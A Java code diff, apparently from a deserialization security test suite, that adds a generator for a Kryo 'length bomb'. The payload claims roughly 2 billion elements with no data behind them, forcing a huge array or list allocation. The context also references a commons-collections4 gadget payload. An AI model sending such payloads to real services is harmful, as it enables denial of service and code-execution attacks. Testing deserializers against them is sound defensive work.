@@ -75,6 +75,38 @@ public final class RpcPayloads {
     }
 
     /**
+     * A Kryo value whose length prefix claims about 2 billion elements and whose data is absent:
+     * a {@code byte[]} (Kryo allocates it in {@code Input.readBytes(int)}) or an
+     * {@code ArrayList} (sized in {@code CollectionSerializer.create}), a dozen bytes each.
+     * Written by Kryo for one element, then the length cut to the bomb's.
+     */
+    public static byte[] kryoLengthBomb(Object oneElement) {
+        Kryo kryo = RpcVictim.kryo();
+        Output prefix = new Output(64, -1);
+        kryo.writeClass(prefix, oneElement.getClass());
+        byte[] whole = kryo(kryo, oneElement);
+        int at = prefix.position() + 1; // the class, then the reference marker, then the length
+        Output bomb = new Output(64, -1);
+        bomb.writeBytes(whole, 0, at);
+        if (oneElement instanceof byte[]) {
+            expect(whole[at] == 2, "byte[]: length 1 (+1) after the reference marker");
+            bomb.writeVarInt(0x7fff0000 + 1, true);
+        } else {
+            // CollectionSerializer packs "all elements share a class" into the length's first byte.
+            expect(whole[at] == (byte) 0x82, "collection: flagged length 1 (+1) after the reference marker");
+            bomb.writeVarIntFlag(true, 0x7fff0000 + 1, true);
+            bomb.writeByte(whole[at + 1]); // the elements' class; the elements themselves are left out
+        }
+        return bomb.toBytes();
+    }
+
+    private static void expect(boolean layout, String what) {
+        if (!layout) {
+            throw new IllegalStateException("Kryo's layout changed: expected " + what);
+        }
+    }
+
+    /**
      * The same comparator chain with commons-collections4 4.0's classes, for Kryo.
      */
     public static byte[] kryoCommonsCollections4(String marker) throws Exception {
